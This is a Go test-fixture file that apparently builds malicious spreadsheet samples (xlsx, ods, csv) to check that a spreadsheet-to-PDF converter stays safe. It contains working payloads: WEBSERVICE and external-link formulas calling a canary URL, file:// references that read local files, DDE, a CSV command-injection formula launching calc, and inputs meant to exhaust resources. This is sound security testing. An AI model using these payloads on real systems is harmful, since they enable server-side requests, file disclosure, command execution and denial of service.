package main

import (
	"fmt"
	"strings"

	"github.com/toolmill/toolmill/domain/tool"
)

const (
	xlsxType = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
	odsType  = "application/vnd.oasis.opendocument.spreadsheet"
	csvType  = "text/csv"
)

func sheetSamples() []sample {
	sheet := func(name, kind, extension string, content func(c canary) ([]byte, error)) sample {
		return sample{
			name: name, slug: tool.SpreadsheetToPDF, contentType: kind, extension: extension, bare: bareOffice("calc_pdf_Export"), want: made(harmless), content: content,
		}
	}
	return []sample{
		sheet("formulas that ask", xlsxType, "xlsx", packed(func(c canary) []entry {
			return xlsxWith(cell("A2", `_xlfn.WEBSERVICE("`+c.url+`webservice")`)+cell("B2", `HYPERLINK("`+c.url+`link","x")`)+
				cell("C2", `_xlfn.FILTERXML(_xlfn.WEBSERVICE("file://`+c.file+`"),"//x")`), "")
		})),
		sheet("links to other workbooks", xlsxType, "xlsx", packed(func(c canary) []entry {
			return append(xlsxWith(cell("A2", "[1]Sheet1!A1"), relation("rIdE", "externalLink", "externalLinks/externalLink1.xml")),
				entry{name: "xl/externalLinks/externalLink1.xml", content: `<externalLink xmlns="` + sheetNames + `"><externalBook xmlns:r="` + relationships +
					`" r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames></externalBook></externalLink>`},
				entry{name: "xl/externalLinks/_rels/externalLink1.xml.rels", content: rels(relation("rId1", "externalLinkPath", c.url+"book.xlsx"))})
		})),
		sheet("cells without end", xlsxType, "xlsx", packed(func(canary) []entry {
			return xlsxWith(`<c r="A2" t="inlineStr"><is><t>x</t></is></c><c r="XFD2" t="inlineStr"><is><t>y</t></is></c></row><row r="1048576">`+
				`<c r="XFD1048576" t="inlineStr"><is><t>z</t></is></c>`, "")
		})).endless(refused("page_limit")),
		sheet("formulas without end", xlsxType, "xlsx", packed(func(canary) []entry {
			var cells strings.Builder
			cells.WriteString(cell("A2", `REPT("x",30000)`))
			for i := 3; i <= 2000; i++ {
				fmt.Fprintf(&cells, `</row><row r="%d">%s`, i, cell(fmt.Sprintf("A%d", i), fmt.Sprintf("SUMPRODUCT(LEN(A$2:A%d))+SUM(A1:XFD%[1]d)", i-1)))
			}
			return xlsxWith(cells.String(), "")
		})).endless(made(harmless)),
		sheet("tags that are not closed", xlsxType, "xlsx", packed(func(canary) []entry {
			return xlsxWith(`<c r="A2" t="inlineStr"><is><t>`, "")
		})).endless(corrupt),
		sheet("formulas that ask", odsType, "ods", packed(func(c canary) []entry {
			return ods(`<table:table-cell table:formula="of:=COM.MICROSOFT.WEBSERVICE(&quot;`+c.url+`webservice&quot;)" office:value-type="string"/>`, "")
		})),
		sheet("cells of another book", odsType, "ods", packed(func(c canary) []entry {
			return ods(`<table:table-cell table:formula="of:='`+c.url+`book.ods'#$Sheet1.A1" office:value-type="string"/>`+
				`<table:table-cell><table:cell-range-source table:name="canary" xlink:type="simple" xlink:actuate="onLoad" xlink:href="file://`+c.file+
				`" table:filter-name="Text - txt - csv (StarCalc)" table:filter-options="44,34,76,1" table:last-column-spanned="1" table:last-row-spanned="1"/>`+
				`<text:p>x</text:p></table:table-cell>`, "")
		})),
		sheet("a sheet of a file", odsType, "ods", packed(func(c canary) []entry {
			return ods("", `<table:table-source xlink:type="simple" xlink:href="file://`+c.file+
				`" table:filter-name="Text - txt - csv (StarCalc)" table:filter-options="44,34,76,1" table:mode="copy-all"/>`)
		})).quickly(),
		sheet("data of other programs", odsType, "ods", packed(func(c canary) []entry {
			return ods(`<table:table-cell table:formula="of:=DDE(&quot;soffice&quot;;&quot;`+c.file+`&quot;;&quot;Sheet1.A1&quot;)" office:value-type="string"/>`, "")
		})).because(notFollowed),
		sheet("formulas that ask", csvType, "csv", text(func(c canary) string {
			return fmt.Sprintf("%s,b\n\"=WEBSERVICE(\"\"%swebservice\"\")\",\"=cmd|' /C calc'!A0\"\n\"='file://%s'#$Sheet1.A1\",+1\n", harmless, c.url, c.file)
		})).because("LibreOffice asks for nothing that a CSV links to"),
		sheet("columns without end", csvType, "csv", text(func(canary) string { return strings.Repeat(",", 5_000_000) + "x" })).
			endless(refused("page_limit")),
		sheet("quotes without end", csvType, "csv", text(func(canary) string { return `"` + strings.Repeat(`x"",`, 2_000_000) })).
			endless(never),
	}
}

// endless is a sample that reaches for nothing, with its required end.
func (s sample) endless(want end) sample {
	s = inert(s)
	s.want = want
	return s
}

const sheetNames = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"

func cell(at, formula string) string {
	return `<c r="` + at + `" t="str"><f>` + strings.NewReplacer("&", "&amp;", "<", "&lt;").Replace(formula) + `</f><v></v></c>`
}

func xlsxWith(cells, relations string) []entry {
	const kind = "application/vnd.openxmlformats-officedocument.spreadsheetml."
	return []entry{
		{name: "[Content_Types].xml", content: `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">` +
			`<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>` +
			`<Override PartName="/xl/workbook.xml" ContentType="` + kind + `sheet.main+xml"/>` +
			`<Override PartName="/xl/worksheets/sheet1.xml" ContentType="` + kind + `worksheet+xml"/>` +
			`<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="` + kind + `externalLink+xml"/></Types>`},
		{name: "_rels/.rels", content: rels(`<Relationship Id="rId1" Type="` + relationships + `/officeDocument" Target="xl/workbook.xml"/>`)},
		{name: "xl/workbook.xml", content: `<workbook xmlns="` + sheetNames + `" xmlns:r="` + relationships + `"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets>` +
			`<externalReferences><externalReference r:id="rIdE"/></externalReferences><calcPr fullCalcOnLoad="1"/></workbook>`},
		{name: "xl/_rels/workbook.xml.rels", content: rels(relation("rId1", "worksheet", "worksheets/sheet1.xml") + relations)},
		{name: "xl/worksheets/sheet1.xml", content: `<worksheet xmlns="` + sheetNames + `"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>` + harmless +
			`</t></is></c></row><row r="2">` + cells + `</row></sheetData></worksheet>`},
	}
}

func ods(cells, source string) []entry {
	return odf(odsType, "spreadsheet", `<table:table table:name="Sheet1">`+source+`<table:table-row>`+cells+
		`<table:table-cell office:value-type="string"><text:p>`+harmless+`</text:p></table:table-cell></table:table-row></table:table>`, "")
}
